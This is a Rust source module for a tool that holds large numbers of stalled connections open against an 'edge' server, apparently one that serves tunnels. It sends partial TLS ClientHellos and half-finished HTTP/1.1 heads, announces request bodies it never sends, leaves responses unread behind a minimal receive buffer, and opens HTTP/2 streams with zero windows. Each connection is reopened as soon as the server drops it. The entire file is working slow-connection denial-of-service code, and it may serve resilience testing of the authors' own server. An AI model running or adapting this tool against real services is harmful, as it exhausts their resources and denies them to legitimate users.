//! Connections of visitors that are brought into a state and left there.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use clap::{Args, ValueEnum};
use tokio::io::{AsyncWriteExt, Interest};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};
use tokio_rustls::client::TlsStream;

use crate::{http2, tls};

#[derive(Debug, Args)]
pub struct Options {
    state: State,
    /// Where the edge listens: for TLS or, for the states of HTTP/1.1, in clear text
    address: SocketAddr,
    /// The tunnel that is asked for
    #[arg(long)]
    host: String,
    /// The visitor's address
    #[arg(long)]
    from: IpAddr,
    #[arg(long)]
    connections: usize,
    /// Conversations on each HTTP/2 connection
    #[arg(long, default_value_t = 100)]
    streams: u32,
    /// What is asked for
    #[arg(long, default_value = "/bytes/100000000")]
    target: String,
}

/// Where a connection stays.
#[derive(Clone, Copy, Debug, ValueEnum)]
enum State {
    /// Half of a ClientHello has been sent
    TlsHandshake,
    /// Half of an HTTP/1.1 head has been sent
    Head,
    /// An HTTP/1.1 head has been sent, and nothing of the body that it announces
    Body,
    /// An HTTP/1.1 request has been sent, and its answer is never read
    Unread,
    /// TLS is done and HTTP/2 agreed on, but not begun
    Http2Preface,
    /// HTTP/2 has begun, nothing is asked for, and pings are answered
    Http2Idle,
    /// Half of a head has been sent on HTTP/2, after which nothing but the rest of it may be said
    Http2Head,
    /// Heads have been sent on every stream, and nothing of the bodies; pings are answered
    Http2Body,
    /// Answers have been asked for on every stream, with large windows, and nothing is read
    Http2Unread,
    /// Answers have been asked for on every stream, with windows of 0; pings are answered
    Http2NoWindow,
}

/// Hold so many connections until killed.
pub async fn run(options: Arc<Options>) -> Result<()> {
    let (tried, mut tries) = mpsc::channel(options.connections.max(1));
    let mut connections = JoinSet::new();
    for _ in 0..options.connections {
        let (options, tried) = (options.clone(), tried.clone());
        connections.spawn(async move { options.come_back(tried).await });
    }
    let mut open = 0;
    for _ in 0..options.connections {
        open += usize::from(tries.recv().await.context("a connection gave up")?);
    }
    println!("attacking: {open} of {} are open", options.connections);
    // None of them ends by itself.
    connections.join_next().await;
    Ok(())
}

impl Options {
    /// Open a connection again and again; tell whether it worked the first time.
    async fn come_back(&self, tried: mpsc::Sender<bool>) {
        loop {
            let opened = timeout(PATIENCE, self.open()).await;
            let opened = opened
                .context("no answer in time")
                .and_then(|opened| opened);
            // After the first time nobody listens.
            let _ = tried.try_send(opened.is_ok());
            let begun = Instant::now();
            match opened {
                Ok(held) => {
                    held.until_closed().await;
                    println!("sent away after {:.1} s", begun.elapsed().as_secs_f64());
                }
                Err(err) => eprintln!("refused: {err:#}"),
            }
            sleep(PAUSE).await;
        }
    }

    async fn open(&self) -> Result<Held> {
        let mut tcp = self.connect().await?;
        let (host, target) = (&self.host, &self.target);
        match self.state {
            State::TlsHandshake => tcp.write_all(tls::HALF_A_CLIENT_HELLO).await?,
            State::Head => {
                let half = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nX-");
                tcp.write_all(half.as_bytes()).await?;
            }
            State::Body => {
                let head =
                    format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\n");
                tcp.write_all(head.as_bytes()).await?;
            }
            State::Unread => {
                let whole = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
                tcp.write_all(whole.as_bytes()).await?;
            }
            _ => return self.open_http2(tcp).await,
        }
        Ok(Held::Unread(tcp))
    }

    async fn open_http2(&self, tcp: TcpStream) -> Result<Held> {
        let mut tls = tls::connect(tcp, &self.host).await?;
        let mut said = http2::opening(match self.state {
            State::Http2NoWindow => 0,
            _ => http2::LARGEST_WINDOW,
        });
        let streams = (0..self.streams).map(|nth| 1 + 2 * nth);
        let ask = |stream| http2::get(stream, &self.host, &self.target);
        match self.state {
            State::Http2Preface => said.clear(),
            State::Http2Idle => {}
            State::Http2Head => said.extend(http2::half_a_head(1, &self.host, &self.target)),
            State::Http2Body => {
                said.extend(streams.flat_map(|stream| http2::post(stream, &self.host)))
            }
            State::Http2Unread | State::Http2NoWindow => said.extend(streams.flat_map(ask)),
            _ => bail!("not a state of HTTP/2"),
        }
        tls.write_all(&said).await?;
        tls.flush().await?;
        Ok(match self.state {
            State::Http2Unread | State::Http2Preface | State::Http2Head => {
                Held::UnreadTls(Box::new(tls))
            }
            _ => Held::Pinged(Box::new(tls)),
        })
    }

    async fn connect(&self) -> Result<TcpStream> {
        let socket = match self.address {
            SocketAddr::V4(_) => TcpSocket::new_v4()?,
            SocketAddr::V6(_) => TcpSocket::new_v6()?,
        };
        // Before it connects: afterwards the other end has been offered more.
        socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
        socket.bind(SocketAddr::new(self.from, 0))?;
        let connected = socket.connect(self.address).await;
        connected.with_context(|| format!("cannot connect to {}", self.address))
    }
}

/// A connection in its state.
enum Held {
    /// Nothing of what comes is read.
    Unread(TcpStream),
    UnreadTls(Box<TlsStream<TcpStream>>),
    /// What comes is read, and pings are answered: that is cheap.
    Pinged(Box<TlsStream<TcpStream>>),
}

impl Held {
    async fn until_closed(self) {
        match self {
            Self::Unread(tcp) => until_closed(&tcp).await,
            Self::UnreadTls(tls) => until_closed(tls.get_ref().0).await,
            Self::Pinged(mut tls) => {
                // Whatever ends it, it is over.
                let _ = http2::answer_pings(&mut tls).await;
            }
        }
    }
}

/// Wait for the other end without reading.
async fn until_closed(tcp: &TcpStream) {
    let interest = Interest::READABLE | Interest::ERROR;
    while let Ok(ready) = tcp.ready(interest).await {
        if ready.is_read_closed() || ready.is_error() {
            return;
        }
        // It is readable all the time.
        sleep(LOOK).await;
    }
}

/// How long it may take to bring a connection into its state.
const PATIENCE: Duration = Duration::from_secs(10);

/// Between two tries.
const PAUSE: Duration = Duration::from_millis(200);

/// Between two looks.
const LOOK: Duration = Duration::from_secs(1);

/// As little as the kernel allows: what is not read shall wait at the edge.
const RECEIVE_BUFFER: u32 = 4 << 10;
